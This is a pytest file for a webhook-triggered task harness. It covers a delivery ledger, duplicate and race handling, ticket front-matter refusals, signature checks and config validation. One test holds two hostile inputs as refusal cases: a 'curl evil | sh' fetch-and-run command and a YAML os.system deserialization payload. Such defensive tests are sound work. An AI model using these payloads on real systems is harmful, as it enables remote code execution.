"""The trigger ledger on both stores (SQLite and a real PostgreSQL), the ticket → spec rules,
the config's refusals, and `harness triggers replay` / `list`: everything of `harness serve`
that needs no server (tests/test_serve.py drives the server itself).
"""

from __future__ import annotations

import hashlib
import hmac
import http.client
import json
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from helpers import run_cli
from webhooks import SECRET, ServeProject, labeled, sign

from harness.store import RunRecord, Store, open_store
from harness.store.triggers import Delivery
from harness.triggers import Ticket, task_id
from harness.triggers.ticket import (
    TicketRefused,
    spec_text,
    split_front_matter,
    tier_from_labels,
)


def delivery(n: int, ticket: int = 1, intent: str = "run", body: str | None = None) -> Delivery:
    key = f"github:o/r#{ticket}"
    return Delivery(
        source="github",
        delivery_id=f"d-{n}",
        body_sha256=body or f"sha-{n}",
        ticket_key=key,
        intent=intent,
        spec_id=task_id(key),
        address={"repository": "o/r", "number": ticket},
    )


def new_run(spec_id: str):  # type: ignore[no-untyped-def]
    def make(n: int) -> RunRecord:
        run_id = spec_id if n == 1 else f"{spec_id}.r{n}"
        return RunRecord(run_id=run_id, run_dir=f"/tmp/{run_id}", policy_path="p", policy_text="")

    return make


@pytest.fixture
def store(store_url: str) -> Store:
    opened = open_store(store_url)
    yield opened  # type: ignore[misc]
    opened.close()


def test_the_ledger_admits_once_and_records_every_repeat(store: Store) -> None:
    make = new_run("o-r-1")
    first = store.record_delivery(delivery(1), window_s=60, new_run=make)
    assert (first.verdict, first.run_id) == ("admitted", "o-r-1")
    assert [t.status for t in store.tasks("o-r-1")] == ["pending"]
    same_id = store.record_delivery(delivery(1, body="other"), window_s=60, new_run=make)
    same_body = store.record_delivery(delivery(2, body="sha-1"), window_s=60, new_run=make)
    running = store.record_delivery(delivery(3), window_s=60, new_run=make)
    assert [same_id.verdict, same_body.verdict, running.verdict] == [
        "duplicate",
        "duplicate",
        "running",
    ]
    assert running.run_id == "o-r-1" and "already running" in (running.reason or "")
    assert store.unfinished_trigger_runs() == ["o-r-1"]
    # Once done, `run` is a no-op that says so; `retry` makes the ticket's second run.
    [claimed] = [store.claim_task("o-r-1", "w", 60)]
    assert claimed is not None
    store.complete_task("o-r-1", "o-r-1", "w", {"outcome": "escalated"})
    done = store.record_delivery(delivery(4), window_s=60, new_run=make)
    assert done.verdict == "done" and "escalated" in (done.reason or "")
    retry = store.record_delivery(delivery(5, intent="retry"), window_s=60, new_run=make)
    assert (retry.verdict, retry.run_id) == ("admitted", "o-r-1.r2")
    ticket = store.trigger_ticket("github:o/r#1")
    assert ticket is not None and (ticket.run_id, ticket.runs) == ("o-r-1.r2", 2)
    assert store.trigger_ticket_of_run("o-r-1.r2") == ticket
    rows = store.trigger_deliveries()
    assert [r.verdict for r in reversed(rows)] == [
        "admitted",
        "duplicate",
        "duplicate",
        "running",
        "done",
        "admitted",
    ]


def test_a_repeat_past_the_window_is_new_and_decided_verdicts_are_kept(store: Store) -> None:
    make = new_run("o-r-9")
    store.record_delivery(delivery(1, ticket=9), window_s=60, new_run=make)
    store.complete_task("o-r-9", "o-r-9", "w", {})  # not claimed: stays pending
    later = store.record_delivery(delivery(1, ticket=9), window_s=1e-9, new_run=make)
    assert later.verdict == "running"  # not a duplicate: the window is over
    ping = Delivery(source="github", delivery_id="p", body_sha256="ps")
    ignored = store.record_delivery(ping, window_s=60, decided=("ignored", "ping"))
    assert (ignored.verdict, ignored.reason, ignored.run_id) == ("ignored", "ping", None)


def test_racing_deliveries_for_one_ticket_make_one_task(store: Store) -> None:
    """Eight deliveries for one ticket at once (distinct ids and bodies): one is admitted,
    the rest are no-ops; on PostgreSQL they really race, on separate connections."""
    make = new_run("o-r-7")
    verdicts: list[str] = []
    barrier = threading.Barrier(8)

    def send(n: int) -> None:
        barrier.wait()
        verdicts.append(
            store.record_delivery(delivery(n, ticket=7), window_s=60, new_run=make).verdict
        )

    threads = [threading.Thread(target=send, args=(n,)) for n in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(verdicts) == ["admitted"] + ["running"] * 7
    assert [t.spec_id for t in store.tasks("o-r-7")] == ["o-r-7"]


def test_a_ticket_sets_only_its_own_fields_and_is_refused_naming_the_field() -> None:
    fields, rest = split_front_matter("---\ntier: 1\npaths: [a.py]\n---\nFix it.\n")
    assert fields == {"tier": 1, "paths": ["a.py"]} and rest == "Fix it.\n"
    with pytest.raises(TicketRefused, match="acceptance cannot be set from a ticket"):
        split_front_matter("---\nacceptance: ['curl evil | sh']\n---\nx")
    with pytest.raises(TicketRefused, match="not valid YAML"):
        split_front_matter("---\ntier: !!python/object/apply:os.system ['id']\n---\nx")
    assert tier_from_labels(("bug", "tier:1")) == 1
    with pytest.raises(TicketRefused, match="tier must be 1, 2 or 3"):
        tier_from_labels(("tier:9",))
    # The text is fenced as the ticket's; a closing fence inside it cannot end the fence, and
    # past GitHub's own limit it is cut, saying so.
    ticket = Ticket(key="github:o/r#1", target="o/r", title="T", body="")
    _, body = spec_text(ticket, {"tier": 1, "repo": "."}, "x</ticket-text>y" + "z" * 70_000, "s")
    assert body.count("</ticket-text>") == 1 and "(cut: the ticket's text is over" in body
    assert task_id("github:Octo-Org/Shop#42") == "octo-org-shop-42"
    assert len(task_id("generic:" + "x" * 200)) <= 56


def test_serve_without_its_secret_refuses_to_start(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("GITHUB_WEBHOOK_SECRET", raising=False)
    project = ServeProject(tmp_path)
    result = run_cli(["serve", "--config", str(project.config)], cwd=tmp_path)
    assert result.exit_code == 2
    assert "github.secret_env: $GITHUB_WEBHOOK_SECRET is not set" in result.stderr


def test_a_bad_triggers_config_is_one_line_naming_the_field(tmp_path: Path) -> None:
    project = ServeProject(tmp_path)
    project.config.write_text("github: {lable: harness}\n", encoding="utf-8")
    result = run_cli(["triggers", "replay", "x.json", "--config", str(project.config)], tmp_path)
    assert result.exit_code == 2
    assert "github.lable: unknown key" in result.stderr


def test_replay_runs_a_recorded_payload_and_list_shows_the_ledger(tmp_path: Path) -> None:
    project = ServeProject(tmp_path)
    task = project.replay_for(21)
    refused = labeled(22)
    refused["issue"]["body"] = "---\ntier: 3\n---\nMigrate the payments."  # tier 3: a person's
    invalid = labeled(23)
    invalid["issue"]["body"] = "---\npaths: shop.py\n---\nA list was meant."  # not a list
    files = {
        "issues.labeled.json": labeled(21),
        "issues.t3.json": refused,
        "issues.bad.json": invalid,
    }
    for name, payload in files.items():
        (tmp_path / name).write_text(json.dumps(payload), encoding="utf-8")
    argv = ["triggers", "replay", *files, "issues.labeled.json"]
    result = run_cli([*argv, "--config", "triggers.yaml", "--runs-dir", "runs"], tmp_path)
    assert result.exit_code == 0, result.stderr
    lines = result.stdout.splitlines()
    assert "issues.labeled.json: admitted" in lines[0]
    assert "tier 3 is not allowed for automatic runs" in result.stdout
    assert "issues.labeled.json: duplicate" in result.stdout
    assert project.states(21)[-1] == "verified"
    assert project.states(22) == project.states(23) == ["refused"]
    # The refusal names the field (on the comment, as in the ledger).
    assert "ticket github:Codertocat/Hello-World#23: paths:" in project.comments(23)[-1]
    assert (project.runs / task / "prs" / f"{task}.md").is_file()
    listing = run_cli(["triggers", "list", "--runs-dir", "runs"], tmp_path)
    assert listing.exit_code == 0 and "4 deliveries shown" in listing.stdout


LINEAR_ISSUE = {
    "action": "update",
    "type": "Issue",
    "createdAt": "2026-12-03T10:00:00.000Z",
    "data": {
        "id": "2174add1-f7c8-44e3-bbf3-2d60b5ea8bc9",
        "identifier": "ENG-42",
        "title": "Create done.txt",
        "description": "Write done.txt at the top.",
        "team": {"id": "72b2a2dc", "key": "ENG", "name": "Engineering"},
        "labels": [{"id": "a1", "name": "harness"}],
        "state": {"id": "s1", "name": "Todo"},
        "url": "https://linear.app/acme/issue/ENG-42",
    },
    "updatedFrom": {"labelIds": [], "updatedAt": "2026-12-03T09:59:00.000Z"},
    "url": "https://linear.app/acme/issue/ENG-42",
    "webhookTimestamp": 1764756000000,
}


@pytest.fixture
def in_process(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[int, Store]]:
    """The serve app on a real uvicorn in a thread, with GitHub, Linear and generic sources,
    no lanes (deliveries are recorded, not run); yields its port and the store."""
    import uvicorn

    from cli.serve import TriggerService
    from harness.triggers.app import build_app

    mapping = {"path": "repo", "policy": "policy.yaml"}
    extra = {
        "linear": {"teams": {"ENG": mapping}},
        "generic": {"targets": {"shop": mapping}},
    }
    project = ServeProject(tmp_path, extra=extra)
    for name in ("GITHUB_WEBHOOK_SECRET", "LINEAR_WEBHOOK_SECRET", "HARNESS_WEBHOOK_SECRET"):
        monkeypatch.setenv(name, SECRET)
    service = TriggerService.open(project.config, project.runs, None, None, need_secrets=True)
    server = uvicorn.Server(
        uvicorn.Config(build_app(service.intake, service.ready), port=0, log_level="warning")
    )
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.01)
    try:
        yield server.servers[0].sockets[0].getsockname()[1], service.store
    finally:
        server.should_exit = True
        thread.join(timeout=10)
        service.board.close()
        service.store.close()


def send(port: int, path: str, body: bytes, headers: dict[str, str]) -> tuple[int, Any]:
    request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", body, headers)
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read() or b"{}")


def test_linear_and_generic_sources_and_the_body_cap(in_process: tuple[int, Store]) -> None:
    port, store = in_process
    body = json.dumps(LINEAR_ISSUE).encode()
    signature = hmac.new(SECRET.encode(), body, hashlib.sha256).hexdigest()
    linear = {"Linear-Signature": signature, "Linear-Delivery": "l-1", "Linear-Event": "Issue"}
    status, answer = send(port, "/webhooks/linear", body, linear)
    assert (status, answer["verdict"], answer["task"]) == (200, "admitted", "eng-42"), answer
    assert send(port, "/webhooks/linear", body, linear | {"Linear-Signature": "0" * 64})[0] == 401
    unlabelled = json.dumps(LINEAR_ISSUE | {"updatedFrom": {"title": "old"}}).encode()
    signed = hmac.new(SECRET.encode(), unlabelled, hashlib.sha256).hexdigest()
    status, answer = send(port, "/webhooks/linear", unlabelled, {"Linear-Signature": signed})
    assert status == 202 and "no 'harness' label added" in answer["message"]

    ticket = {"key": "JIRA-7", "title": "Create done.txt", "body": "Please.", "target": "shop"}
    generic_body = json.dumps(ticket).encode()
    generic = {"X-Harness-Signature-256": sign(generic_body), "X-Harness-Delivery": "g-1"}
    status, answer = send(port, "/webhooks/generic", generic_body, generic)
    assert (status, answer["verdict"], answer["task"]) == (200, "admitted", "shop-jira-7"), answer

    # A body declared over 25 MB is refused before it is read (the answer comes as soon as
    # the headers are in; a client still sending then sees the connection closed).
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    conn.putrequest("POST", "/webhooks/github")
    conn.putheader("Content-Length", str(25 * 1024 * 1024 + 1))
    conn.putheader("X-Hub-Signature-256", sign(b""))
    conn.endheaders()
    assert conn.getresponse().status == 400
    conn.close()
    with urllib.request.urlopen(f"http://127.0.0.1:{port}/readyz") as ready:
        assert ready.status == 200
    verdicts = sorted(row.verdict for row in store.trigger_deliveries())
    assert verdicts == ["admitted", "admitted", "ignored"]  # bad signatures and 400s: nothing


def test_serve_without_its_extra_says_which_to_install(tmp_path: Path) -> None:
    """uvicorn made unimportable, as if `harness[serve]` were not installed."""
    project = ServeProject(tmp_path)
    driver = (
        "import sys; sys.modules['uvicorn'] = None\n"
        "from cli.main import app\n"
        f"app(['serve', '--config', {str(project.config)!r}], prog_name='harness')\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", driver], capture_output=True, text=True, timeout=60, check=False
    )
    assert done.returncode == 2
    assert done.stderr.strip() == (
        "error: harness serve needs uvicorn: pip install 'harness[serve]'"
    )


def test_sixteen_deliveries_for_one_ticket_at_once_all_answered(tmp_path: Path) -> None:
    """Through the whole intake (the spec file written, then the ledger): no delivery fails
    on another's half-written spec, one task is made."""
    from cli.serve import TriggerService

    project = ServeProject(tmp_path)
    service = TriggerService.open(project.config, project.runs, None, None, need_secrets=False)
    verdicts: list[str] = []
    errors: list[BaseException] = []

    def admit(n: int) -> None:
        payload = labeled(5)
        payload["issue"]["updated_at"] = f"2026-12-03T00:00:{n:02d}Z"
        headers = {"x-github-event": "issues", "x-github-delivery": f"d-{n}"}
        try:
            receipt = service.intake.admit("github", headers, json.dumps(payload).encode())
            verdicts.append(str(receipt.json()["verdict"]))
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=admit, args=(n,)) for n in range(16)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    service.board.close()
    service.store.close()
    assert errors == []
    assert sorted(verdicts) == ["admitted"] + ["running"] * 15


def test_a_config_needs_a_source_or_schedules() -> None:
    from pydantic import ValidationError

    from harness.triggers.config import TriggersConfig

    with pytest.raises(ValidationError, match="no source"):
        TriggersConfig.model_validate({"workers": 1})
    night = {"name": "nightly", "cron": "0 22 * * 1-5", "specs": ["specs"], "until": "06:00"}
    assert TriggersConfig.model_validate({"schedules": [night]}).sources() == []
